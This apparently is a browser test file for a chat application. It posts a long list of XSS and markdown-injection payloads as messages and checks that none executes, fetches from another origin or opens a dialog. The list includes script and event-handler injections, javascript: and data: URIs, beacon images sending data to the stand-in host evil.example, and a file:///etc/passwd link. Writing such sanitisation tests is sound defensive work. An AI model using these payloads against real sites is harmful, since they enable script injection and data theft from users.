import type { Browser } from "playwright-core";
import { afterAll, beforeAll, expect, test } from "vitest";
import { WebSocket } from "ws";
import { Connection, type ConnectionOptions } from "@/connection/index";
import { call, loggedIn, RealServer, registered } from "../real-server";
import { launch, Visit, WEB_DIR } from "./browser";

/** Nobody is there; what is fetched from it has got out. */
const OUT = "https://evil.example";

/** What people and models may write to make a browser run something, or tell somebody that a message was read. */
const PAYLOADS = [
  `<script>alert(1)</script>`,
  `<script src="${OUT}/a.js"></script>`,
  `<img src=x onerror=alert(2)>`,
  `<img src="${OUT}/pixel.png">`,
  `<svg onload=alert(3)><image href="${OUT}/a.svg"/></svg>`,
  `<svg><script>alert(4)</script></svg>`,
  `<iframe src="${OUT}"></iframe>`,
  `<iframe srcdoc="<script>alert(5)</script>"></iframe>`,
  `<object data="${OUT}/a.swf"></object>`,
  `<embed src="${OUT}/a.swf">`,
  `<link rel=stylesheet href="${OUT}/a.css">`,
  `<link rel=prefetch href="${OUT}/p">`,
  `<style>@import url(${OUT}/a.css); body{background:url(${OUT}/b)}</style>`,
  `<base href="${OUT}/">`,
  `<meta http-equiv="refresh" content="0;url=${OUT}">`,
  `<form action="${OUT}"><input autofocus onfocus=alert(6)></form>`,
  `<details open ontoggle=alert(7)>`,
  `<video src="${OUT}/v.mp4" autoplay onerror=alert(8)></video>`,
  `<audio src="${OUT}/a.mp3" autoplay></audio>`,
  `<body onload=alert(9)>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert(10)>`,
  `<div style="background:url(${OUT}/c)">styled</div>`,
  `<a href="javascript:alert(11)">click</a>`,
  `![pixel](${OUT}/p.png)`,
  `![pixel](${OUT}/p.png "title")`,
  `![pixel][far]\n\n[far]: ${OUT}/far.png`,
  `[![nested](${OUT}/n.png)](${OUT}/link)`,
  `![](${OUT}/?q=secret)`,
  `![a](//evil.example/x.png)`,
  `![a](data:text/html,<script>alert(12)</script>)`,
  `![a](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)`,
  `[x](javascript:alert(13))`,
  `[x](JaVaScRiPt:alert(14))`,
  `[x](java\nscript:alert(15))`,
  `[x](\u0001javascript:alert(16))`,
  `[x](&#106;avascript:alert(17))`,
  `[x](javascript&colon;alert(18))`,
  `[x](vbscript:msgbox(19))`,
  `[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgyMCk8L3NjcmlwdD4=)`,
  `[x](file:///etc/passwd)`,
  `[x](blob:${OUT}/1)`,
  `[x][r]\n\n[r]: javascript:alert(21)`,
  `<javascript:alert(22)>`,
  `<${OUT}/auto>`,
  `${OUT}/bare`,
  `[bank.example](${OUT}/phish)`,
  `[x](${OUT} "onmouseover=alert(23)")`,
  `[x]("onmouseover="alert(24)")`,
  `\`\`\`html\n<script>alert(25)</script>\n\`\`\``,
  `\`\`\`"><script>alert(26)</script>\nx\n\`\`\``,
  `\`<img src=x onerror=alert(27)>\``,
  `| a |\n| - |\n| <img src=x onerror=alert(28)> ![t](${OUT}/t.png) |`,
  `- [ ] <script>alert(29)</script>\n- [x] ![c](${OUT}/c.png)`,
  `~~<b onclick=alert(30)>struck</b>~~`,
  `[^1]\n\n[^1]: ![f](${OUT}/f.png) <script>alert(31)</script>`,
  `# <img src=x onerror=alert(32)>`,
  `> ![q](${OUT}/q.png)`,
  `&lt;script&gt;alert(33)&lt;/script&gt;`,
  `<!--<img src="--><img src=x onerror=alert(34)>">`,
  `<noscript><p title="</noscript><img src=x onerror=alert(35)>">`,
  `<template><script>alert(36)</script></template>`,
  `{{constructor.constructor('alert(37)')()}}`,
  `\u202e<script>alert(38)</script>`,
  `<x onclick=alert(39) id=document name=location>clobber</x>`,
];

let browser: Browser;
let server: RealServer;

beforeAll(async () => {
  server = await RealServer.start({ TWIN_WEB_DIR: WEB_DIR, TWIN_SENDS_PER_MINUTE: "1000000" });
  browser = await launch();
});

afterAll(async () => {
  await browser?.close();
  await server?.stop();
});

test(`of ${PAYLOADS.length} hostile messages and names none runs, asks another origin for anything, or opens a dialog`, async () => {
  const visit = await Visit.of(browser, server.url);
  await visit.signUp("Victim");
  const victim = await loggedIn(server, "Victim");
  const attacker = await registered(server, `<img src=x onerror=alert(0)>`.slice(0, 100), "attacker@example.com");
  const wanted = { title: `![t](${OUT}/t.png)<script>alert(0)</script>`, members: [victim.id] };
  const room = await call<{ id: string }>(server, "/api/v1/conversations", wanted, attacker.token);
  await writeAll(attacker.token, room.id);

  await visit.go(`/chat?id=${room.id}`);
  const bubbles = visit.bubbles("a person");
  await bubbles.last().waitFor();
  // Only what is in view is drawn: go through all of it.
  const list = visit.page.locator('[data-testid="messages"]');
  await visit.page.getByRole("button", { name: "To the newest message" }).click();
  await visit.page.locator(`[data-row="p${PAYLOADS.length - 1}"]`).waitFor();
  const seen = new Set<string>();
  for (let place = 0; seen.size < PAYLOADS.length && place < 200; place += 1) {
    // One frame to hear of the scrolling, and one to draw.
    await visit.page.evaluate(() => new Promise((drawn) => requestAnimationFrame(() => requestAnimationFrame(drawn))));
    const drawn = visit.page.locator("[data-row]:has(article)");
    for (const row of await drawn.evaluateAll((rows) => rows.map((each) => each.getAttribute("data-row")))) {
      seen.add(row ?? "");
    }
    await list.evaluate((element) => element.scrollBy({ top: -250 }));
  }
  expect(seen.size).toBeGreaterThanOrEqual(PAYLOADS.length);
  const hrefs = await visit.page
    .locator("article a")
    .evaluateAll((links) => links.map((link) => link.getAttribute("href")));
  expect(hrefs.filter((href) => !/^(https?|mailto):/.test(href ?? ""))).toEqual([]);
  expect(
    await visit.page.locator("article :is(img, script, iframe, object, embed, style, form, svg image)").count(),
  ).toBe(0);
  expect(visit.offences).toEqual([]);
  await visit.close();
});

/** Sends every payload and waits until each is committed. */
function writeAll(token: string, conversation_id: string): Promise<void> {
  const connection = new Connection({
    url: `${server.url.replace("http", "ws")}/ws`,
    token: async () => token,
    WebSocket: WebSocket as unknown as ConnectionOptions["WebSocket"],
  });
  for (const [number, text] of PAYLOADS.entries()) {
    connection.send({ op: "send", conversation_id, client_id: `p${number}`, text });
  }
  return new Promise((resolve) => {
    connection.listen((event) => {
      if (event.type === "outbox" && event.entries.every(({ refusal }) => refusal !== undefined)) {
        expect(event.entries).toEqual([]);
        connection.stop();
        resolve();
      }
    });
    connection.start();
  });
}
